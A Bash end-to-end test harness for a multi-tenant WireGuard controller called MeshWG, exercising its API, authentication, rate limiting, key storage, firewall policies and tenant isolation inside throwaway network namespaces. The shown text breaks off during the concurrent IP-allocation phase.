#!/usr/bin/env bash
# MeshWG end-to-end harness: drives the real `meshwg serve` through its public HTTP API and
# asserts on the kernel (wg show, iptables counters, tcpdump, ping, iperf3, ss, ip) and on
# PostgreSQL rows, in the style of WireGuard's src/tests/netns.sh. Run as root:
#
#     e2e/run.sh            # every phase
#     e2e/run.sh -v 7 8 9   # chosen phases (by number or name), commands echoed
#
# Topology (every name carries this run's PID; only these namespaces are touched):
#
#   ┌─ $CTL "controller host" ────────────────────────────────────────────────────┐
#   │  meshwg serve  API 0.0.0.0:8080  metrics 127.0.0.1:9587                      │
#   │  hub per tenant, UDP :518xx (born here, wg0 moved into $KP-<id>)             │
#   │  br0 172.31.0.1/24  = PUBLIC_ENDPOINT                                        │
#   └──┬──────────────┬──────────────┬──────────────┬───────────────────────────────┘
#      │ veth         │ veth         │ veth         │ veth
#   $E-vm1 .11     $E-vm2 .12     $E-vm3 .13     $E-vm5 .15, $E-vm6 .16
#   org A m1       org A m2       org B m3       plain clients (rate-limit phase)
#   wg-quick       wg-quick       wg-quick
#
#   $KP-<id>: tenant namespaces made by the controller (lo + wg0 only)
#   PostgreSQL: a throw-away cluster on a Unix socket in $TMP (reachable from any namespace)
#
# Backends: WG_BACKEND (auto, userspace or kernel; default auto) is handed to the controller,
# and the backend it actually selected (its startup log says) decides how the hub is inspected:
#   userspace  a wireguard-go daemon per tenant (pidfile in RUNTIME_DIR), driven by `wg` through
#              its UAPI socket /var/run/wireguard/<device>.sock, the device's birth name;
#   kernel     the kernel device wg0 inside the tenant namespace (`ip netns exec NS wg … wg0`);
#              no daemon, socket or pidfile. The hub's identity (same after an adoption, new
#              after a rebuild) is wg0's ifindex, and a crash of the data plane is `ip link del`.
# The hub_* helpers below hide the difference. wg-quick clients use whatever the host offers.
#
# Slow machines (the QEMU/TCG guest of scripts/test-kernel-vm.sh runs everything ~30x slower):
# E2E_TIME_SCALE multiplies every deadline the harness waits for (default 1), and
# E2E_RECONCILE_INTERVAL sets the controller's RECONCILE_INTERVAL (default 1s) so that periodic
# reconciles of a dozen tenants do not eat the whole machine. Neither changes what is asserted.
#
# Output: one line per phase (PASS name / FAIL name: why), then "N passed, M failed".
# Everything (commands, outputs, controller log) goes to $TMP/e2e.log, kept on failure.

set -u
export LC_ALL=C

cd "$(dirname "$0")/.."
ROOT=$PWD
VERBOSE=
[ "${1:-}" = -v ] && { VERBOSE=1; shift; }

# --- names -------------------------------------------------------------------------------
RUN=$$
E=e$RUN                                   # namespaces and links
letters() { local n=$1 s=""; for _ in 1 2 3 4 5; do s=$(printf "\\x$(printf %x $((97 + n % 26)))")$s; n=$((n / 26)); done; echo "$s"; }
KP=$(letters "$RUN")                      # KERNEL_PREFIX of the controller under test (letters)
CTL=$E-ctl
umask 077                                 # cookie jars and configs hold secrets
TMP=$(mktemp -d "/tmp/meshwg-e2e-$RUN.XXXXXX")
chmod 711 "$TMP"                          # PostgreSQL (user postgres) reaches its directory
LOG=$TMP/e2e.log
RUNDIR=$TMP/run
API=http://127.0.0.1:8080
PUBLIC=172.31.0.1
OPERATOR=operator@e2e.test
OPERATOR_PW=e2e-operator-password
ENC_KEY=$(head -c 32 /dev/urandom | base64)
JWT=$(head -c 48 /dev/urandom | base64 | tr -d '\n')
BIN=${MESHWG_BIN:-$ROOT/target/debug/meshwg}
PGBIN=$(ls -d /usr/lib/postgresql/*/bin | sort -V | tail -n 1)
PGDIR=$TMP/pg
PIDS=()                                   # background processes we started
CTL_PID=
STARTED=$(date +%s)
TIME_SCALE=${E2E_TIME_SCALE:-1}
[[ "$TIME_SCALE" =~ ^[1-9][0-9]*$ ]] || { echo "e2e/run.sh: E2E_TIME_SCALE must be a whole number" >&2; exit 1; }

# --- output and wrappers -----------------------------------------------------------------
log() { printf '[%s] %s\n' "$(date +%T.%3N)" "$*" >>"$LOG"; }
pretty() { log "[$1] ${*:2}"; [ -z "$VERBOSE" ] || printf '\e[1;32m[%s]\e[0m %s\n' "$1" "${*:2}" >&2; }
ctl() { pretty ctl "$*"; ip netns exec "$CTL" "$@" 2>>"$LOG"; }
vm() { local n=$1; shift; pretty "vm$n" "$*"; ip netns exec "$E-vm$n" "$@" 2>>"$LOG"; }
tn() { local ns=$1; shift; pretty "$ns" "$*"; ip netns exec "$ns" "$@" 2>>"$LOG"; }
host() { pretty host "$*"; "$@" 2>>"$LOG"; }

WHY=
fail() { WHY=$*; log "FAIL: $*"; return 1; }
# poll SECONDS WHAT CMD…: retries CMD until it succeeds (10 per second) or fails the phase.
# The deadline is SECONDS × E2E_TIME_SCALE.
poll() {
  local secs=$(($1 * TIME_SCALE)) what=$2; shift 2
  local deadline=$(($(date +%s%N) + secs * 1000000000))
  until "$@" >/dev/null 2>&1; do
    [ "$(date +%s%N)" -lt "$deadline" ] || { fail "$what: not within ${secs}s"; return 1; }
    sleep 0.1
  done
}
# bg_vm N CMD…: CMD in VM N in the background; LAST_BG is its pid (ip netns exec execs CMD).
bg_vm() { local n=$1; shift; pretty "vm$n" "$* &"; ip netns exec "$E-vm$n" "$@" >>"$LOG" 2>&1 & PIDS+=($!); LAST_BG=$!; }
# bg_sh SCRIPT: a shell snippet in the background, its output to the log.
bg_sh() { pretty host "$1 &"; sh -c "$1" >>"$LOG" 2>&1 & PIDS+=($!); LAST_BG=$!; }

# --- PostgreSQL --------------------------------------------------------------------------
pg_start() {
  runuser -u postgres -- "$PGBIN/pg_ctl" -D "$PGDIR/data" -l "$PGDIR/log" -w \
    -o "-k $PGDIR -c listen_addresses= -c fsync=off -c max_connections=200" start >>"$LOG" 2>&1
}
pg_stop() { runuser -u postgres -- "$PGBIN/pg_ctl" -D "$PGDIR/data" -m fast -w stop >>"$LOG" 2>&1; }
psql_q() { runuser -u postgres -- psql -h "$PGDIR" -d "${2:-meshwg}" -XAtqc "$1" 2>>"$LOG"; }
setup_pg() {
  mkdir -p "$PGDIR" && chown postgres: "$PGDIR"
  runuser -u postgres -- "$PGBIN/initdb" -D "$PGDIR/data" -A trust -U postgres -E UTF8 --locale=C >>"$LOG" 2>&1 || return 1
  pg_start || return 1
  psql_q "CREATE DATABASE meshwg" postgres && psql_q "CREATE DATABASE refusal" postgres
}
DATABASE_URL="host=$PGDIR user=postgres dbname=meshwg"

# --- controller --------------------------------------------------------------------------
controller_env() {
  echo PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
  echo "DATABASE_URL=$DATABASE_URL"
  echo "ENCRYPTION_KEY=$ENC_KEY"
  echo "JWT_SECRET=$JWT"
  echo "ADMIN_EMAIL=$OPERATOR"
  echo "ADMIN_PASSWORD=$OPERATOR_PW"
  echo LISTEN_ADDR=0.0.0.0:8080
  echo METRICS_ADDR=127.0.0.1:9587
  echo "PUBLIC_ENDPOINT=$PUBLIC"
  echo "KERNEL_PREFIX=$KP"
  echo "RUNTIME_DIR=$RUNDIR"
  echo "RECONCILE_INTERVAL=${E2E_RECONCILE_INTERVAL:-1s}"
  echo "WG_BACKEND=${WG_BACKEND:-auto}"
  echo RUST_LOG=info
}
ready() { ip netns exec "$CTL" curl -sf --max-time 2 "$API/healthz" >/dev/null 2>&1; }
start_controller() {
  mapfile -t envs < <(controller_env)
  pretty ctl "meshwg serve"
  # nsenter --net, not `ip netns exec`: the latter gives the process a private mount namespace,
  # and the namespace handles the controller mounts under /run/netns would never reach the host.
  nsenter --net="/run/netns/$CTL" env -i "${envs[@]}" "$BIN" serve >>"$TMP/serve.log" 2>&1 &
  CTL_PID=$!
  disown "$CTL_PID"   # killed with -9 on purpose in phase 21; no job report for that
  poll 60 "controller answers /healthz" ready && detect_backend
}
# The backend the controller selected, from its startup log ("WireGuard backend selected
# backend=… why=…"); BACKEND is kernel or userspace.
BACKEND=
detect_backend() {
  local b
  b=$(sed 's/\x1b\[[0-9;]*m//g' "$TMP/serve.log" | grep 'backend selected' | tail -n 1 \
    | grep -oE '(^| )backend="?(kernel|userspace)' | head -n 1 | grep -oE 'kernel|userspace')
  [ -n "$b" ] || { fail "the controller's log does not say which backend it selected"; return 1; }
  [ "$b" = "$BACKEND" ] || log "backend: $b"
  BACKEND=$b
}
ensure_controller() {
  if [ -n "$CTL_PID" ] && kill -0 "$CTL_PID" 2>/dev/null; then return 0; fi
  start_controller && login op "$OPERATOR" "$OPERATOR_PW"
}
stop_controller() { # stop_controller SIGNAL
  [ -n "$CTL_PID" ] || return 0
  kill "-$1" "$CTL_PID" 2>/dev/null
  local i; for i in $(seq $((100 * TIME_SCALE))); do kill -0 "$CTL_PID" 2>/dev/null || break; sleep 0.1; done
  CTL_PID=
}

# --- API (curl inside the controller namespace) --------------------------------------------
# What may be logged of a response: machine private keys (JSON field or wg-quick line) redacted.
redact() {
  sed -E 's/("private_key"[[:space:]]*:[[:space:]]*")[^"]*"/\1<redacted>"/g; s/(PrivateKey[[:space:]]*=[[:space:]]*)[A-Za-z0-9+\/=]+/\1<redacted>/g'
}
# api WHO METHOD PATH [JSON] [extra curl args…]: sets STATUS, BODY (and $TMP/headers).
# WHO names a logged-in user (cookie jar + CSRF token) or is "-" for nobody.
api() {
  local who=$1 method=$2 path=$3 data=${4-}
  local args=(-sS -o "$TMP/body" -D "$TMP/headers" -w '%{http_code}' -X "$method" --max-time 120)
  if [ "$who" != - ]; then
    args+=(-b "$TMP/jar.$who" -c "$TMP/jar.$who" -H "X-CSRF-Token: $(cat "$TMP/csrf.$who")")
  fi
  [ -z "$data" ] || args+=(-H 'Content-Type: application/json' --data-binary "$data")
  args+=("${@:5}")
  STATUS=$(ip netns exec "$CTL" curl "${args[@]}" "$API$path" 2>>"$LOG") || STATUS=000
  BODY=$(cat "$TMP/body" 2>/dev/null)
  log "api $who $method $path -> $STATUS $(redact <<<"$BODY" | head -c 300)"
}
login() { # login WHO EMAIL PASSWORD
  rm -f "$TMP/jar.$1"
  local d; d=$(jq -nc --arg e "$2" --arg p "$3" '{email:$e,password:$p}')
  STATUS=$(ip netns exec "$CTL" curl -sS -o "$TMP/body" -D "$TMP/headers" -w '%{http_code}' -c "$TMP/jar.$1" \
    -H 'Content-Type: application/json' --data-binary "$d" "$API/api/v1/auth/login" 2>>"$LOG")
  BODY=$(cat "$TMP/body")
  log "login $1 -> $STATUS"
  [ "$STATUS" = 200 ] || { fail "login $2: $STATUS $BODY"; return 1; }
  jq -r .csrf_token <<<"$BODY" >"$TMP/csrf.$1"
}
expect() { # expect CODE WHAT
  [ "$STATUS" = "$1" ] || { fail "$2: HTTP $STATUS, wanted $1: $(redact <<<"$BODY" | head -c 200)"; return 1; }
}
j() { jq -r "$1" <<<"$BODY"; }

# --- tenants, machines and VMs ------------------------------------------------------------
# new_org VAR NAME CIDR [default_action]: creates an org, sets VAR=id, NS_VAR, DEV_VAR, PORT_VAR.
new_org() {
  local var=$1 d
  d=$(jq -nc --arg n "$2" --arg c "$3" --arg a "${4:-allow}" '{name:$n,cidr:$c,default_action:$a}')
  api op POST /api/v1/orgs "$d"; expect 201 "create org $2" || return 1
  printf -v "$var" %s "$(j .id)"
  printf -v "PORT_$var" %s "$(j .listen_port)"
  api op GET "/api/v1/orgs/${!var}/status"; expect 200 "status of $2" || return 1
  printf -v "NS_$var" %s "$(j .hub.netns)"
  printf -v "DEV_$var" %s "$(j .hub.device)"
}
ORG_A= ORG_B=
ensure_org_a() { ensure_controller || return 1; [ -n "$ORG_A" ] || new_org ORG_A "Org A" 10.100.0.0/16; }
ensure_org_b() { ensure_controller || return 1; [ -n "$ORG_B" ] || new_org ORG_B "Org B" 10.100.0.0/16; }

# vm_ns N: a client namespace on br0 at 172.31.0.(10+N).
vm_ns() {
  local n=$1 ns=$E-vm$1
  [ -e "/run/netns/$ns" ] && return 0
  host ip netns add "$ns" || return 1
  ctl ip link add "${E}h$n" type veth peer name eth0 netns "$ns" || return 1
  ctl ip link set "${E}h$n" master br0 up
  vm "$n" ip addr add "172.31.0.$((10 + n))/24" dev eth0
  vm "$n" ip link set eth0 up
  vm "$n" ip link set lo up
}
# machine VAR ORG NAME: creates a machine; sets VAR=id, IP_VAR, CONF_VAR (the config as returned).
machine() {
  local d; d=$(jq -nc --arg n "$3" '{name:$n}')
  api op POST "/api/v1/orgs/$2/machines" "$d"; expect 201 "create machine $3" || return 1
  printf -v "$1" %s "$(j .machine.id)"
  printf -v "IP_$1" %s "$(j .machine.address)"
  printf -v "CONF_$1" %s "$(j .config)"
}
# vm_up N CONFIG: brings the config up, exactly as returned, with wg-quick in VM N.
vm_up() {
  local n=$1 conf=$TMP/${KP}v$1.conf
  vm_ns "$n" || return 1
  printf '%s\n' "$2" >"$conf" && chmod 600 "$conf"
  vm "$n" wg-quick up "$conf" >>"$LOG" 2>&1 || { fail "wg-quick up in vm$n"; return 1; }
}
M1= M2= M3=
ensure_vms() {
  ensure_org_a || return 1
  [ -z "$M1" ] || return 0
  machine M1 "$ORG_A" m1 && machine M2 "$ORG_A" m2 || return 1
  vm_up 1 "$CONF_M1" && vm_up 2 "$CONF_M2" || return 1
  poll 30 "vm1 reaches vm2 through the hub" vm 1 ping -c1 -W1 "$IP_M2" || return 1
  poll 10 "the controller has seen where both machines are" endpoints_known "$ORG_A" 2
}
endpoints_known() { # endpoints_known ORG N: N machines with a recorded endpoint
  [ "$(psql_q "SELECT count(*) FROM machines WHERE org_id = '$1' AND last_endpoint IS NOT NULL")" -ge "$2" ]
}
ensure_vm3() {
  ensure_org_b || return 1
  [ -z "$M3" ] || return 0
  machine M3 "$ORG_B" m3 && vm_up 3 "$CONF_M3" || return 1
  poll 30 "vm3 handshakes with hub B" handshaken "$NS_ORG_B" "$DEV_ORG_B"
}
# --- the hub, whichever backend keeps it ---------------------------------------------------
# hub_wg NS DEV SUBCOMMAND ARGS…: `wg SUBCOMMAND <hub> ARGS…` on a tenant's hub.
hub_wg() {
  local ns=$1 dev=$2 sub=$3; shift 3
  if [ "$BACKEND" = kernel ]; then
    pretty "$ns" "wg $sub wg0 $*"; ip netns exec "$ns" wg "$sub" wg0 "$@" 2>>"$LOG"
  else
    pretty host "wg $sub $dev $*"; wg "$sub" "$dev" "$@" 2>>"$LOG"
  fi
}
# hub_identity NS DEV: the same while a hub is adopted, another once it is rebuilt: the
# wireguard-go daemon's pid, or the ifindex of the kernel's wg0 in the tenant namespace.
hub_identity() {
  if [ "$BACKEND" = kernel ]; then
    ip -n "$1" -o link show dev wg0 2>/dev/null | cut -d: -f1
  else
    daemon_pid "$2" 2>/dev/null
  fi
}
hub_alive() { # hub_alive NS DEV ID: the hub with identity ID still exists
  if [ "$BACKEND" = kernel ]; then [ "$(hub_identity "$1" "$2")" = "$3" ]; else kill -0 "$3" 2>/dev/null; fi
}
# hub_crash NS DEV: the data plane dies under the controller (drift it must repair): the daemon
# is killed, or the kernel device deleted.
hub_crash() {
  if [ "$BACKEND" = kernel ]; then tn "$1" ip link del dev wg0; else host kill -9 "$(daemon_pid "$2")"; fi
}
# hub_remains NS DEV: what is left of a removed hub (empty if nothing): the namespace, a link
# under the birth name in the controller namespace, a UAPI socket.
hub_remains() {
  [ ! -e "/run/netns/$1" ] || echo "namespace $1"
  ! ip netns exec "$CTL" ip -o link show 2>/dev/null | grep -qF "$2" || echo "link $2"
  [ ! -e "/var/run/wireguard/$2.sock" ] || echo "socket $2.sock"
}
hub_has_peer() { hub_wg "$1" "$2" show peers | grep -qF -- "$3"; } # hub_has_peer NS DEV KEY
handshaken() { # handshaken NS DEV: every peer of the hub has a handshake
  local hs; hs=$(hub_wg "$1" "$2" show latest-handshakes) || return 1
  [ -n "$hs" ] && ! awk '{print $2}' <<<"$hs" | grep -qx 0
}
daemon_pid() { cut -d' ' -f1 "$RUNDIR/$1.pid"; }
inode() { stat -Lc %i "/run/netns/$1"; }
# rule_counter NS POLICY_ID: packets counted by the policy's rule (iptables -L -v -x)
rule_counter() {
  tn "$1" iptables -L MWG-ACL -v -x -n | awk -v c="/* mwg:$2 */" 'index($0, c) {print $1; found=1} END {if (!found) print "none"}'
}
ping_loss() { grep -o '[0-9.]*% packet loss' | cut -d% -f1; }
policy() { # policy VAR ORG JSON: creates a policy, sets VAR=id
  api op POST "/api/v1/orgs/$2/policies" "$3"; expect 201 "create policy $3" || return 1
  printf -v "$1" %s "$(j .id)"
}
# capture NAME NS FILTER…: tcpdump on wg0 of NS into $TMP/cap.NAME (IFACE=… for another
# interface); capture_stop NAME prints how many packets it saw.
capture() {
  local name=$1 ns=$2; shift 2
  pretty "$ns" "tcpdump -i ${IFACE:-wg0} $* &"
  ip netns exec "$ns" tcpdump -i "${IFACE:-wg0}" -n -l -U "$@" >"$TMP/cap.$name" 2>"$TMP/cap.$name.err" &
  PIDS+=($!); eval "CAP_$name=$!"
  poll 10 "tcpdump $name starts" grep -q "listening on" "$TMP/cap.$name.err"
}
capture_stop() {
  local pid; eval "pid=\$CAP_$1"
  kill -INT "$pid" 2>/dev/null; wait "$pid" 2>/dev/null
  grep -c . "$TMP/cap.$1"
}

# ==========================================================================================
# Phases. Each returns 0 or calls `fail why`; each sets up what it needs, so any subset runs.
# ==========================================================================================

phase_01_startup_refusal() {
  local key out code
  for key in "" "$(head -c 16 /dev/urandom | base64)" "not*base64*not*base64*not*base64*not*base64"; do
    out=$(ip netns exec "$CTL" env -i PATH=/usr/sbin:/usr/bin:/sbin:/bin \
      "DATABASE_URL=host=$PGDIR user=postgres dbname=refusal" "ENCRYPTION_KEY=$key" "JWT_SECRET=$JWT" \
      "PUBLIC_ENDPOINT=$PUBLIC" KERNEL_PREFIX=zzref "RUNTIME_DIR=$TMP/refused" \
      timeout 10 "$BIN" serve 2>&1)
    code=$?
    log "serve with ENCRYPTION_KEY='${key:0:4}…' -> $code: $out"
    [ "$code" -ne 0 ] && [ "$code" -ne 124 ] || { fail "started (or hung) with a bad ENCRYPTION_KEY"; return 1; }
    [ "$(grep -c . <<<"$out")" = 1 ] && grep -q '^meshwg: ENCRYPTION_KEY: ' <<<"$out" || { fail "not one line naming ENCRYPTION_KEY: $out"; return 1; }
    [ -z "$key" ] || ! grep -qF -- "$key" <<<"$out" || { fail "the key was echoed"; return 1; }
  done
  [ ! -e "$TMP/refused" ] || { fail "runtime directory created"; return 1; }
  [ "$(psql_q "SELECT count(*) FROM pg_tables WHERE schemaname = 'public'" refusal)" = 0 ] || { fail "tables created"; return 1; }
  ! ip netns list 2>/dev/null | grep -q '^zzref' || { fail "namespace created"; return 1; }
}

phase_02_auth_flow() {
  ensure_controller || return 1
  login p2 "$OPERATOR" "$OPERATOR_PW" || return 1
  grep -i '^set-cookie: __Host-meshwg_session=' "$TMP/headers" | grep -q 'HttpOnly' || { fail "session cookie is not HttpOnly"; return 1; }
  grep -i '^set-cookie: __Host-meshwg_session=' "$TMP/headers" | grep -q 'SameSite=Strict' || { fail "session cookie not SameSite=Strict"; return 1; }
  api - POST /api/v1/auth/login "{\"email\":\"$OPERATOR\",\"password\":\"wrong password\"}"; expect 401 "wrong password" || return 1
  [ "$(j .error.code)" = invalid_credentials ] || { fail "error body: $BODY"; return 1; }
  api p2 GET /api/v1/auth/me; expect 200 "me with the session" || return 1
  STATUS=$(ctl curl -s -o "$TMP/body" -w '%{http_code}' -b "$TMP/jar.p2" -H 'Content-Type: application/json' \
    --data-binary '{"name":"no csrf"}' "$API/api/v1/orgs"); BODY=$(cat "$TMP/body")
  expect 403 "write without CSRF header" || return 1
  [ "$(j .error.code)" = csrf ] || { fail "error code: $BODY"; return 1; }
  [ "$(psql_q "SELECT count(*) FROM orgs WHERE name = 'no csrf'")" = 0 ] || { fail "the refused write happened"; return 1; }
  api p2 POST /api/v1/auth/logout; expect 204 logout || return 1
  api p2 GET /api/v1/auth/me; expect 401 "me after logout" || return 1
}

phase_03_login_rate_limit() {
  ensure_controller || return 1
  vm_ns 5 && vm_ns 6 || return 1
  local i code d; d="{\"email\":\"$OPERATOR\",\"password\":\"a wrong guess\"}"
  for i in 1 2 3 4 5; do
    code=$(vm 5 curl -s -o /dev/null -w '%{http_code}' -H 'Content-Type: application/json' --data-binary "$d" "http://$PUBLIC:8080/api/v1/auth/login")
    [ "$code" = 401 ] || { fail "failure $i answered $code"; return 1; }
  done
  vm 5 curl -s -D "$TMP/h3" -o "$TMP/b3" -H 'Content-Type: application/json' --data-binary "$d" "http://$PUBLIC:8080/api/v1/auth/login" >/dev/null
  head -1 "$TMP/h3" | grep -q ' 429' || { fail "6th failure: $(head -1 "$TMP/h3")"; return 1; }
  grep -qi '^retry-after: [0-9]' "$TMP/h3" || { fail "no Retry-After"; return 1; }
  d="{\"email\":\"$OPERATOR\",\"password\":\"$OPERATOR_PW\"}"
  code=$(vm 5 curl -s -o /dev/null -w '%{http_code}' -H 'Content-Type: application/json' --data-binary "$d" "http://$PUBLIC:8080/api/v1/auth/login")
  [ "$code" = 429 ] || { fail "the attacker's address is not limited ($code)"; return 1; }
  code=$(vm 6 curl -s -o /dev/null -w '%{http_code}' -H 'Content-Type: application/json' --data-binary "$d" "http://$PUBLIC:8080/api/v1/auth/login")
  [ "$code" = 200 ] || { fail "the real user elsewhere got $code"; return 1; }
}

phase_04_org_onboarding() {
  ensure_org_a || return 1
  ip netns list 2>/dev/null | grep -q "^$NS_ORG_A\b" || { fail "no namespace $NS_ORG_A"; return 1; }
  tn "$NS_ORG_A" ip -o addr show dev wg0 | grep -q 'inet 10.100.0.1/16' || { fail "wg0 lacks 10.100.0.1/16"; return 1; }
  tn "$NS_ORG_A" ip -o link show dev wg0 | grep -q 'mtu 1420' || { fail "wg0 mtu"; return 1; }
  [ "$(tn "$NS_ORG_A" ip -o link show | grep -c .)" = 2 ] || { fail "more than lo and wg0"; return 1; }
  local sock; sock=$(ctl ss -Hulnp | grep ":$PORT_ORG_A ")
  [ -n "$sock" ] || { fail "port $PORT_ORG_A not listening in the controller namespace"; return 1; }
  if [ "$BACKEND" = kernel ]; then
    ! grep -q 'users:' <<<"$sock" || { fail "port $PORT_ORG_A is held by a process, not the kernel: $sock"; return 1; }
  else
    grep -q wireguard-go <<<"$sock" || { fail "port $PORT_ORG_A is not wireguard-go's: $sock"; return 1; }
  fi
  tn "$NS_ORG_A" iptables -S FORWARD | grep -qx -- '-P FORWARD DROP' || { fail "FORWARD policy"; return 1; }
  tn "$NS_ORG_A" iptables -S FORWARD | grep -qx -- '-A FORWARD -i wg0 -o wg0 -j MWG-ACL' || { fail "FORWARD jump"; return 1; }
  tn "$NS_ORG_A" iptables -S MWG-ACL >/dev/null || { fail "no ACL chain"; return 1; }
}

phase_05_keys_at_rest() {
  ensure_org_a || return 1
  local b64 hex dump
  b64=$(hub_wg "$NS_ORG_A" "$DEV_ORG_A" show private-key) || { fail "cannot read the hub key from the device"; return 1; }
  hex=$(base64 -d <<<"$b64" | od -An -tx1 | tr -d ' \n')
  dump=$(runuser -u postgres -- pg_dump -h "$PGDIR" --data-only meshwg 2>>"$LOG")
  [ -n "$dump" ] || { fail "empty dump"; return 1; }
  ! grep -qiF -- "$b64" <<<"$dump" || { fail "hub private key in PostgreSQL (base64)"; return 1; }
  ! grep -qiF -- "$hex" <<<"$dump" || { fail "hub private key in PostgreSQL (hex)"; return 1; }
  [ "$(psql_q "SELECT octet_length(hub_key_ciphertext) FROM orgs WHERE id = '$ORG_A'")" = 48 ] || { fail "no sealed key row"; return 1; }
  mapfile -t envs < <(controller_env)
  ip netns exec "$CTL" env -i "${envs[@]}" "$BIN" verify-keys >>"$LOG" 2>&1 || { fail "verify-keys with the right key"; return 1; }
  ! ip netns exec "$CTL" env -i "${envs[@]}" "ENCRYPTION_KEY=$(head -c 32 /dev/urandom | base64)" "$BIN" verify-keys >>"$LOG" 2>&1 \
    || { fail "another ENCRYPTION_KEY opened the hub keys"; return 1; }
}

phase_06_machine_private_key() {
  ensure_org_a || return 1
  local key id
  machine K6 "$ORG_A" keycheck || return 1
  key=$(grep '^PrivateKey' <<<"$CONF_K6" | awk '{print $3}')
  [ ${#key} = 44 ] || { fail "no private key in the config"; return 1; }
  runuser -u postgres -- pg_dump -h "$PGDIR" --data-only meshwg | grep -qF -- "$key" && { fail "machine key stored"; return 1; }
  for p in "/api/v1/orgs/$ORG_A/machines" "/api/v1/orgs/$ORG_A/machines/$K6" "/api/v1/orgs/$ORG_A/status" "/api/v1/orgs/$ORG_A/audit"; do
    api op GET "$p"; expect 200 "GET $p" || return 1
    ! grep -qF -- "$key" <<<"$BODY" || { fail "key in GET $p"; return 1; }
  done
  grep -qF -- "$key" "$TMP/serve.log" && { fail "key in the controller log"; return 1; }
  api op DELETE "/api/v1/orgs/$ORG_A/machines/$K6"; expect 204 "delete machine" || return 1
}

phase_07_tunnel_handshake() {
  ensure_vms || return 1
  poll 20 "both VMs handshake with the hub" handshaken "$NS_ORG_A" "$DEV_ORG_A"
  [ "$(hub_wg "$NS_ORG_A" "$DEV_ORG_A" show peers | grep -c .)" -ge 2 ] || { fail "hub has fewer than 2 peers"; return 1; }
  vm 1 wg show "${KP}v1" latest-handshakes | awk '{exit !($2 > 0)}' || { fail "vm1 has no handshake"; return 1; }
}

phase_08_hub_and_spoke() {
  ensure_vms || return 1
  local n
  capture p8 "$NS_ORG_A" -Q out icmp and src "$IP_M1" and dst "$IP_M2" || return 1
  vm 1 ping -c 5 -i 0.2 -W 1 "$IP_M2" >>"$LOG" || { fail "vm1 cannot ping vm2"; return 1; }
  sleep 0.3
  n=$(capture_stop p8)
  [ "$n" -ge 5 ] || { fail "tcpdump on the hub's wg0 saw $n forwarded echo requests, wanted 5"; return 1; }
}

phase_09_deny_policy() {
  ensure_vms || return 1
  policy P9 "$ORG_A" "{\"name\":\"deny m1 to m2\",\"action\":\"deny\",\"src\":{\"machine\":\"$M1\"},\"dst\":{\"machine\":\"$M2\"}}" || return 1
  local out before after
  before=$(rule_counter "$NS_ORG_A" "$P9")
  out=$(vm 1 ping -c 10 -i 0.2 -W 1 "$IP_M2")
  after=$(rule_counter "$NS_ORG_A" "$P9")
  grep -q ' 0 received' <<<"$out" || { fail "packets got through the deny: $(grep received <<<"$out")"; return 1; }
  [ "$((after - before))" = 10 ] || { fail "deny counter moved by $((after - before)), wanted 10"; return 1; }
}

phase_10_allow_again() {
  ensure_vms || return 1
  if [ -z "${P9:-}" ]; then phase_09_deny_policy || return 1; fi
  api op DELETE "/api/v1/orgs/$ORG_A/policies/$P9"; expect 204 "delete the deny policy" || return 1
  P9=
  vm 1 ping -c 3 -i 0.2 -W 1 "$IP_M2" >>"$LOG" || { fail "traffic does not flow again"; return 1; }
}

phase_11_ports_and_protocols() {
  ensure_vms || return 1
  policy P11 "$ORG_A" "{\"action\":\"deny\",\"src\":{\"machine\":\"$M1\"},\"dst\":{\"machine\":\"$M2\"},\"protocol\":\"tcp\",\"ports\":\"5201\"}" || return 1
  local s1 s2 ok=0
  bg_vm 2 iperf3 -s -p 5201 -1; s1=$LAST_BG
  bg_vm 2 iperf3 -s -p 5202 -1; s2=$LAST_BG
  poll 10 "iperf3 servers listen" sh -c "ip netns exec $E-vm2 ss -Htln | grep -q ':5202 '"
  if vm 1 iperf3 -c "$IP_M2" -p 5201 -t 1 --connect-timeout 2000 >>"$LOG" 2>&1; then
    fail "iperf3 to the denied port 5201 succeeded"
  elif ! vm 1 iperf3 -c "$IP_M2" -p 5202 -t 1 --connect-timeout 3000 >>"$LOG" 2>&1; then
    fail "iperf3 to the allowed port 5202 failed"
  elif ! vm 1 ping -c 2 -i 0.2 -W 1 "$IP_M2" >>"$LOG"; then
    fail "ping blocked by a tcp/5201 deny"
  elif [ "$(rule_counter "$NS_ORG_A" "$P11")" = 0 ]; then
    fail "the tcp/5201 rule counted nothing"
  else
    ok=1
  fi
  kill "$s1" "$s2" 2>/dev/null; wait "$s1" "$s2" 2>/dev/null
  api op DELETE "/api/v1/orgs/$ORG_A/policies/$P11"
  [ $ok = 1 ]
}

phase_12_cross_tenant_isolation() {
  ensure_vms && ensure_vm3 || return 1
  local n rx0 rx1 ip
  rx0=$(hub_wg "$NS_ORG_B" "$DEV_ORG_B" show transfer | awk '{s += $2} END {print s + 0}')
  capture p12 "$NS_ORG_B" || return 1
  for ip in "$IP_M2" 10.100.0.2 10.100.0.4 10.100.0.99 10.100.255.254; do
    bg_vm 1 ping -f -c 300 -W 1 "$ip"
  done
  wait "${PIDS[@]: -5}" 2>/dev/null
  sleep 0.5
  n=$(capture_stop p12)
  rx1=$(hub_wg "$NS_ORG_B" "$DEV_ORG_B" show transfer | awk '{s += $2} END {print s + 0}')
  [ "$n" = 0 ] || { fail "tcpdump in B's namespace saw $n packets while A flooded"; return 1; }
  # B's hub received nothing but its own keepalives or a rekey at most.
  [ $((rx1 - rx0)) -lt 1000 ] || { fail "B's hub received $((rx1 - rx0)) bytes during A's flood"; return 1; }
  # B has one machine (.2); A's second machine's address does not exist in B's network.
  ! tn "$NS_ORG_B" ping -c1 -W1 "$IP_M2" >/dev/null 2>&1 || { fail "B's namespace reaches A's machine"; return 1; }
}

phase_13_concurrent_ip_allocation() {
  ensure_controller || return 1
  local org n i pids=() addrs
  new_org ORG_13 "Allocation" 10.13.0.0/24 || return 1
  org=$ORG_13
  for n in 5 50; do
    pids=()
    for i in $(seq "$n"); do
      ip netns exec "$CTL" curl -s -o "$TMP/alloc.$n.$i" -w '%{http_code}\n' -b "$TMP/jar.op" -H "X-CSRF-Token: $(cat "$TMP/csrf.op")" \
        -H 'Content-Type: application/json' --data-binary "{\"name\":\"b$n-$i\"}" "$API/api/v1/orgs/$org/machines" >"$TMP/alloc.$n.$i.code" 2>>"$LOG" &
      pids+=($!)
    done
    wait "${pids[@]}"
    if [ "$(cat "$TMP"/alloc.$n.*.code | grep -c '^201$')" != "$n" ]; then
      # What the refused ones said (error code and message), once each.
      local why; why=$(for i in $(seq "$n"); do
